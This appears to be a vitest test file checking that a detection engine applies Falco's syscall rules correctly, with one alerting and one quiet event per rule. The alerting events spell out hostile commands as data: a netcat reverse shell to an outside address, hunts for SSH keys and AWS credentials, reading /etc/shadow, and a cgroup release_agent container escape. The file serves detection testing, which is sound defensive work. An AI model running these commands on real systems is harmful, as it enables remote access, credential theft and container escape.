// falco_rules.yaml's syscall rules on Sekisho's process-event model: for each rule the engine
// supports, one event that must alert and one that must not, written from the rule's meaning.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { sharedDir } from '@sekisho/testkit';
import { describe, expect, it } from 'vitest';
import { Detector } from './detector.js';
import { loadRules } from './engine.js';
import type { ProcessEvent } from './fields-syscall.js';
import { loadOptionsFor } from './inputs.js';

const root = sharedDir('conformance', 'falco');

const inContainer = { container: { id: '4f2a9c1b7e3d', image: 'docker.io/library/nginx:1.27' }, user: { uid: 0, name: 'root', loginuid: -1 } } as const;
const exec = (name: string, args: string[], extra: Partial<ProcessEvent> = {}): ProcessEvent => ({
  type: 'execve',
  proc: { pid: 4242, name, exe: name, exepath: `/usr/bin/${name}`, args, tty: 0 },
  ancestors: [{ pid: 4200, name: 'bash', exepath: '/usr/bin/bash', args: [] }],
  ...inContainer,
  ...extra,
});
const open = (path: string, extra: Partial<ProcessEvent> = {}): ProcessEvent => ({
  type: 'openat',
  args: { flags: 'O_RDONLY|O_CLOEXEC' },
  proc: { pid: 4300, name: 'cat', exe: 'cat', exepath: '/usr/bin/cat', args: [path] },
  ancestors: [{ pid: 4200, name: 'bash' }],
  fd: { name: path, type: 'file', num: 3 },
  ...inContainer,
  ...extra,
});

const CASES: readonly { rule: string; alerts: ProcessEvent; quiet: ProcessEvent }[] = [
  {
    rule: 'Terminal shell in container',
    alerts: exec('bash', [], { proc: { pid: 1, name: 'bash', args: [], tty: 34816 }, ancestors: [{ name: 'runc' }] }),
    quiet: exec('bash', [], { proc: { pid: 1, name: 'bash', args: [], tty: 0 }, ancestors: [{ name: 'runc' }] }),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    alerts: exec('nc', ['-e', '/bin/sh', '203.0.113.9', '4444']),
    quiet: exec('nc', ['-z', '203.0.113.9', '443']),
  },
  {
    rule: 'Search Private Keys or Passwords',
    alerts: exec('find', ['/', '-name', 'id_rsa']),
    quiet: exec('find', ['/', '-name', 'README.md']),
  },
  {
    rule: 'Find AWS Credentials',
    alerts: exec('find', ['/', '-path', '*.aws/credentials']),
    quiet: exec('find', ['/', '-path', '*.aws/config']),
  },
  {
    rule: 'Read sensitive file untrusted',
    alerts: open('/etc/shadow'),
    quiet: open('/etc/hostname'),
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    alerts: exec('debugfs', ['/dev/sda1'], { container: { id: '4f2a9c1b7e3d', privileged: true } }),
    quiet: exec('debugfs', ['/dev/sda1'], { container: { id: '4f2a9c1b7e3d', privileged: false } }),
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    alerts: open('/sys/fs/cgroup/rdma/release_agent', { args: { flags: 'O_WRONLY|O_CREAT' }, caps: { effective: ['CAP_SYS_ADMIN'] } }),
    // The same write without CAP_SYS_ADMIN cannot escape.
    quiet: open('/sys/fs/cgroup/rdma/release_agent', { args: { flags: 'O_WRONLY|O_CREAT' }, caps: { effective: ['CAP_CHOWN'] } }),
  },
];

describe.skipIf(root === null)("falco_rules.yaml's syscall rules on process events", () => {
  const ruleSet = loadRules([{ name: 'falco_rules.yaml', content: readFileSync(join(root ?? '', 'falcosecurity-rules/rules/falco_rules.yaml'), 'utf8') }], loadOptionsFor('syscall'));
  const fired = (event: ProcessEvent): string[] => {
    const detector = new Detector(ruleSet, { hostname: 'test' });
    const rules: string[] = [];
    detector.evaluate('syscall', event, 1_700_000_000_000_000_000n, (a) => void rules.push(a.rule));
    return rules;
  };

  it('loads without error', () => {
    expect(ruleSet.ok).toBe(true);
  });

  for (const c of CASES) {
    it(`${c.rule}: alerts on its positive event, not on its negative one`, () => {
      expect(ruleSet.rules.map((r) => r.name)).toContain(c.rule);
      expect(fired(c.alerts)).toContain(c.rule);
      expect(fired(c.quiet)).not.toContain(c.rule);
    });
  }
});
